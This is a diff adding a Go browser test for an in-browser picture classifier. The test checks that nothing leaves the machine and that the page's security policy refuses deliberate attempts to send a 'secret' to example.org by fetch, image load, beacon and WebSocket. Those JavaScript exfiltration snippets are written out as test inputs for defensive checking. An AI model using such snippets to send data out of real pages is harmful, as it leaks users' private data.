@@ -1,0 +1,65 @@
+package e2e
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/chromedp/chromedp"
+)
+
+// TestNothingLeavesTheMachine classifies a picture in a browser whose every request to another machine would pass a
+// recorder, and then tries on purpose to send something: the page's own policy refuses it.
+func TestNothingLeavesTheMachine(t *testing.T) {
+	var mu sync.Mutex
+	var outside []string
+	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		outside = append(outside, r.Method+" "+r.Host)
+		http.Error(w, "no way out", http.StatusForbidden)
+	}))
+	defer proxy.Close()
+	seen := func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		return append([]string(nil), outside...)
+	}
+
+	s := serve(t)
+	p := launch(t, map[string]any{"proxy-server": proxy.URL}).open(t, s.url+"?device=webgpu")
+	p.adapter()
+	p.until("the model", ready)
+	s.requests()
+	p.run(chromedp.SendKeys("[data-testid=label-input]", "secret label,"))
+	p.drop(photo("coffee.png"))
+	p.settled(1)
+	if asked := s.requests(); len(asked) != 0 {
+		t.Errorf("classifying asked its own server for %q", asked)
+	}
+	before := seen()
+	for _, request := range before {
+		t.Errorf("the browser went out: %s", request)
+	}
+
+	// The page's policy, not good manners, keeps it so.
+	for what, send := range map[string]string{
+		"fetch":     "fetch('http://example.org/', { method: 'POST', body: 'secret' })",
+		"a picture": "new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('blocked')); i.src = 'http://example.org/secret.png'; })",
+		"a beacon":  "Promise.resolve(navigator.sendBeacon('http://example.org/', 'secret')).then((sent) => { if (!sent) throw new Error('blocked'); })",
+		"a socket":  "new Promise((yes, no) => { const w = new WebSocket('ws://example.org/'); w.onopen = yes; w.onerror = () => no(new Error('blocked')); })",
+	} {
+		if blocked := eval[string](p, `(async () => {
+			const violation = new Promise((yes) => document.addEventListener('securitypolicyviolation', (e) => yes(e.violatedDirective), { once: true }));
+			try { await (`+send+`); } catch {}
+			return Promise.race([violation, new Promise((yes) => setTimeout(() => yes(''), 3000))]);
+		})()`); !strings.HasPrefix(blocked, "connect-src") && !strings.HasPrefix(blocked, "img-src") {
+			t.Errorf("%s was not refused by the page's policy (%q)", what, blocked)
+		}
+	}
+	if after := seen(); len(after) != len(before) {
+		t.Errorf("something got out: %q", after)
+	}
+}
